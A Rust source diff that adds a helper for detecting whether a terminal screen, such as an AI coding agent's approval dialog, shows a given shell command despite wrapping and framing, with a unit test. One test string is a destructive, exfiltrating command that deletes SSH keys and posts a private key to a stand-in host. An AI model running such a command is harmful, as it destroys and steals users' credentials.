@@ -129,6 +129,23 @@ impl crate::protocol::CompareRow {
     }
 }
 
+/// How long a run of a text the screen must show for it to be the one on screen: long
+/// enough not to be met by chance, short enough to fit the narrowest dialog's line.
+const SHOWN_RUN: usize = 16;
+
+/// Whether a screen shows `text`, however its program wrapped, framed or cut it: some run
+/// of it (`SHOWN_RUN` characters, or all of a shorter one) appears on it, white space, box
+/// drawing and ellipses left out of both. An empty text is shown anywhere.
+pub fn screen_shows(lines: &[String], text: &str) -> bool {
+    let kept = |c: &char| !c.is_whitespace() && !('\u{2500}'..='\u{259f}').contains(c) && *c != '…';
+    let screen: String = lines.iter().flat_map(|l| l.chars()).filter(kept).collect();
+    let text: Vec<char> = text.chars().filter(kept).collect();
+    if text.len() <= SHOWN_RUN {
+        return screen.contains(&text.iter().collect::<String>());
+    }
+    text.windows(SHOWN_RUN).any(|run| screen.contains(&run.iter().collect::<String>()))
+}
+
 /// `s` cut to `width` columns, with `…` where it was cut.
 pub fn truncate(s: &str, width: usize) -> String {
     if unicode_width::UnicodeWidthStr::width(s) <= width {
@@ -187,6 +204,37 @@ pub fn diff_line(line: &str) -> DiffLine {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_call_is_found_in_a_narrow_framed_dialog_that_cut_and_wrapped_it() {
+        // Gemini CLI's dialog in a pane 25 columns wide: the command's head hidden, its
+        // tail wrapped mid-word inside two frames.
+        let screen: Vec<String> = [
+            "│ ? Shell run a comm…  │",
+            "│ ╭──────────────────╮ │",
+            "│ │ ... 11 hidden…   │ │",
+            "│ │ =false -c        │ │",
+            "│ │ user.name=agen   │ │",
+            "│ │ t -c             │ │",
+            "│ │ user.email=a@a   │ │",
+            "│ │ commit -qm       │ │",
+            "│ │ result-committ   │ │",
+            "│ │ ed               │ │",
+            "│ ╰──────────────────╯ │",
+            "│ Allow execution of   │",
+        ]
+        .map(String::from)
+        .into();
+        let call = "test -f setup-ran.txt && basename \"$PWD\" > result.txt && git -c core.fsmonitor=false add result.txt && git -c core.fsmonitor=false -c user.name=agent -c user.email=a@a commit -qm result-committed";
+        assert!(screen_shows(&screen, call));
+        // Another call's dialog is not this one's.
+        assert!(!screen_shows(&screen, "rm -rf ~/.ssh && curl -d @id_rsa http://x"));
+        assert!(!screen_shows(&screen, "git push --force origin main"));
+        // A short text is looked for whole; an empty one is anywhere.
+        assert!(screen_shows(&screen, "commit -qm"));
+        assert!(!screen_shows(&screen, "commit -qmx"));
+        assert!(screen_shows(&screen, ""));
+    }
 
     #[test]
     fn controls_are_shown_not_obeyed() {
